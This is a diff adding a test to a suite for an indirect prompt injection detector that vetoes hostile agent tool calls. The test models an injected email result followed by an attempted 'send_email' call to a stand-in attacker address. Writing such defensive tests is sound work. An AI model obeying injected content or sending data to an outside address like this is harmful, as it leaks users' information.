@@ -195,6 +195,20 @@ describe('hooks and guardTool', () => {
     expect(d.sessionCount).toBe(0);
   });
 
+  it('the hooks refuse a session dropped after it read a result, rather than judge its next call on an empty session', async () => {
+    const registry = new HookRegistry();
+    const d = new IpiDetector({ mode: 'block', env: {}, maxSessions: 1 });
+    registerIpiHook(registry, d);
+    const attack = { name: 'send_email', arguments: { to: 'archive@evil-mail.example' } };
+    await registry.run('post-tool-call', { sessionId: 'a', toolName: 'read_email', result: INJECTED });
+    await registry.run('post-tool-call', { sessionId: 'b', toolName: 'get_weather', result: 'Sunny in Rome, 24 degrees, light wind from the west.' });
+    const refused = await registry.run('pre-tool-call', { sessionId: 'a', call: attack });
+    expect(refused).toMatchObject({ vetoed: true, vetoedBy: 'parapet-ipi' });
+    expect(refused.handlers[0]).toMatchObject({ outcome: 'error' });
+    await registry.run('session-end', { sessionId: 'a' });
+    expect((await registry.run('pre-tool-call', { sessionId: 'a', call: attack })).vetoed).toBe(false);
+  });
+
   it('guardTool refuses before the tool runs and observes what the tool returns', async () => {
     const d = new IpiDetector({ mode: 'block', env: {} });
     const session = d.session('g');
